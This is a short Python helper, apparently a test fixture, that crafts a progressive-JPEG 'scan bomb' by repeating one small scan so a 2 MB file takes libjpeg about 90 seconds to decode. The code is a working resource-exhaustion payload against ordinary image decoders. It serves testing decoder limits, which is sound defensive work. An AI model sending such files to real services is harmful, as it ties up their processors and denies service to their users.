"""A progressive-JPEG "scan bomb": one tiny scan repeated until the file reaches a size.

libjpeg re-walks every coefficient block of the image for each scan, so the decode time grows with
(scans x blocks) while the file stays small: 2 MB of a 2048² image decodes for ~90 s on the 2-core
test machine.
"""

from __future__ import annotations

import io
import struct

from PIL import Image


def _segments(data: bytes) -> list[tuple[int, int, int]]:
    """(marker, start, end) of every segment; a scan's end includes its entropy-coded data."""
    i, out = 2, []
    while i < len(data):
        marker = data[i + 1]
        if marker == 0xD9:
            out.append((marker, i, i + 2))
            break
        (length,) = struct.unpack(">H", data[i + 2 : i + 4])
        end = i + 2 + length
        if marker == 0xDA:
            while True:
                end = data.index(b"\xff", end)
                if data[end + 1] == 0 or 0xD0 <= data[end + 1] <= 0xD7:
                    end += 2
                    continue
                break
        out.append((marker, i, end))
        i = end
    return out


def scan_bomb(side: int = 2048, size: int = 2_000_000) -> bytes:
    """A flat side x side progressive JPEG whose smallest AC scan is repeated up to ~`size` bytes."""
    buf = io.BytesIO()
    Image.new("RGB", (side, side), (120, 130, 140)).save(buf, "JPEG", progressive=True, quality=90)
    data = buf.getvalue()
    segments = _segments(data)
    scans = [(start, end) for marker, start, end in segments if marker == 0xDA]
    start, end = min(scans[1:], key=lambda s: s[1] - s[0])
    piece = data[start:end]
    eoi = segments[-1][1]
    return data[:eoi] + piece * ((size - len(data)) // len(piece)) + data[eoi:]
